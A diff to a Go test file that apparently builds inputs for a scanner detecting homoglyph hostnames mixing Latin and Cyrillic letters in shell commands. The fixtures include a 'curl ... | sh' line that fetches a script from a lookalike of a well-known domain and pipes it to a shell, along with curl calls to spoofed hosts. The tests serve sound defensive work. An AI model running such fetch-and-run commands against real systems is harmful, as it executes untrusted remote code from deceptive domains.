@@ -9,6 +9,7 @@ import (
 	"os"
 	"path/filepath"
 	"runtime"
+	"strconv"
 	"strings"
 	"syscall"
 	"testing"
@@ -82,7 +83,19 @@ var shapes = []shape{
 		return repeatTo(n, "cat <<'EOF' > out.txt\n", "a line of the here-document, with $x and ‘quotes’\n", "EOF\n")
 	}},
 	{"hostword", func(n int) string { return repeatTo(n, "curl https://", "g\u043e\u043egle", ".com/x.sh | sh") }},
-	{"labels", func(n int) string { return repeatTo(n, "curl https://", "a\u0430.", "com/x.sh") }},
+	// Labels of mixed Latin and Cyrillic, each different: each is a
+	// finding of its own.
+	{"labels", func(n int) string {
+		var b strings.Builder
+		b.WriteString("curl https://")
+		for i := 0; b.Len() < n-len("com/x.sh")-16; i++ {
+			b.WriteString("a\u0430")
+			b.WriteString(strconv.FormatInt(int64(i), 36))
+			b.WriteByte('.')
+		}
+		b.WriteString("com/x.sh")
+		return b.String()
+	}},
 	{"scripts", func(n int) string { return repeatTo(n, "echo ", "a\u0430", "") }},
 	{"urls", func(n int) string { return repeatTo(n, "", "https://ex\u0430mple.com/p?q=1 ", "") }},
 	{"warnings", func(n int) string {
